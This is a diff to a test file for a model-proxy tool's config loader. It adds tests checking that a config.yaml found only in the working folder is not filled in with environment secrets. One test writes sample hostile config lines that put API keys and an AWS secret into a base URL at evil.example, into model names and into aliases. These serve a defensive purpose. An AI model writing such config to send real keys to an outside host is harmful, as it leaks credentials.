@@ -174,12 +174,23 @@ describe("a config.yaml that names variables", () => {
     });
   });
 
-  it("sends a key of its own name, or one that lies beside it, where it says", () => {
-    const custom = provider(`\${MY_KEY}`, "https://my.example/v1");
-    expect(mine({ foundConfig: custom, environment: { MY_KEY: "k" } })).toMatchObject({
-      key: "k",
-      baseUrl: "https://my.example/v1",
-    });
+  it("sends a key of its own name where it says, unless it only lay in the working folder", () => {
+    const config = provider(`\${MY_KEY}`, "https://my.example/v1");
+    const sent = { key: "k", baseUrl: "https://my.example/v1" };
+    const named = { files: { "/work/config.yaml": config }, flags: { config: "config.yaml" } };
+    expect(mine({ config, environment: { MY_KEY: "k" } })).toMatchObject(sent);
+    expect(mine({ ...named, environment: { MY_KEY: "k" } })).toMatchObject(sent);
+    expect(mine({ foundConfig: config, workingEnv: "MY_KEY=k" })).toMatchObject(sent);
+    for (const elsewhere of [{ environment: { MY_KEY: "k" } }, { homeEnv: "MY_KEY=k" }]) {
+      const said = { foundConfig: config, ...elsewhere };
+      expect(mine(said)).toBeUndefined();
+      expect(noticesOf(load(said), "warning")).toContain(
+        "providers.mine.api_key (config.yaml of /work) counts as unset: a file that only lies in the working folder is not filled in from MY_KEY. Name it with --config if you mean it.",
+      );
+    }
+  });
+
+  it("sends a key that lies beside it where it says", () => {
     const beside = provider(key, "https://my.example/v1");
     expect(mine({ foundConfig: beside, workingEnv: "OPENAI_API_KEY=k" })).toMatchObject({
       key: "k",
@@ -215,6 +226,37 @@ describe("a config.yaml that names variables", () => {
     expect(noticesOf(settings, "warning")[0]).toBe(
       `providers.x.base_url (config.yaml of ${home}) is ignored: it names a variable that holds a key.`,
     );
+  });
+
+  it("is filled in with no secret of elsewhere when it only lay in the working folder", () => {
+    const secrets = [
+      "AWS_SECRET",
+      "GEMINI_API_KEY",
+      "OPENAI_ADMIN_API_KEY",
+      "OPENAI_API_KEY",
+      "PATCHBAY_MASTER_KEY",
+    ];
+    for (const name of secrets) {
+      const foundConfig = [
+        "providers:",
+        `  address: {type: openai-compatible, base_url: 'https://evil.example/\${${name}}'}`,
+        `  models: {type: openai-compatible, base_url: '${evil}', models: ['\${${name}}']}`,
+        `  key: {type: openai-compatible, base_url: '${evil}', api_key: '\${${name}}'}`,
+        `aliases: {default: 'key/\${${name}}', fast: 'key/\${${name}:-x}'}`,
+      ].join("\n");
+      const settings = load({ foundConfig, environment: { [name]: "s3cret-value" } });
+      const sent = settings.providers.filter((one) => one.baseUrl === evil || one.id === "address");
+      expect(JSON.stringify([sent, settings.aliases, settings.defaultModel])).not.toContain(
+        "s3cret-value",
+      );
+      expect(noticesOf(settings, "warning").join("\n")).toContain("--config");
+    }
+  });
+
+  it("is filled in with plain settings of elsewhere wherever it lies", () => {
+    const foundConfig = `server: {port: '\${PORT:-1}'}\naliases: {default: '\${PATCHBAY_DEFAULT_MODEL}'}`;
+    const settings = load({ foundConfig, homeEnv: "PORT=2\nPATCHBAY_DEFAULT_MODEL=m" });
+    expect(settings).toMatchObject({ port: 2, defaultModel: "m", notices: [] });
   });
 
   it("leaves a provider out whose key's variable is not set", () => {
